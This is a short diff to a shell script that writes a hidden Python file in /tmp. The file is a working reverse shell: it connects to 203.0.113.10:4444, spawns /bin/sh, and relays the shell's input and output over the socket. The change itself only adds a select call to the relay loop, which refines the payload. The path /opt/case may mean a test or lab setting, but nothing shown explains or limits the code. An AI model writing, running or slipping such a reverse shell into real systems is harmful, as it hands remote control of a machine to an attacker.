@@ -2,12 +2,12 @@
 . /opt/case/case.sh
 
 cat >/tmp/.j.py <<'END'
-import os, socket, subprocess, threading
+import os, select, socket, subprocess, threading
 s = socket.create_connection(("203.0.113.10", 4444))
 p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
 def flow(a, b):
     try:
-        while os.splice(a, b, 65536): pass
+        while select.select([a], [], []) and os.splice(a, b, 65536): pass
     except OSError: pass
 threading.Thread(target=flow, args=(s.fileno(), p.stdin.fileno()), daemon=True).start()
 flow(p.stdout.fileno(), s.fileno()); p.wait()
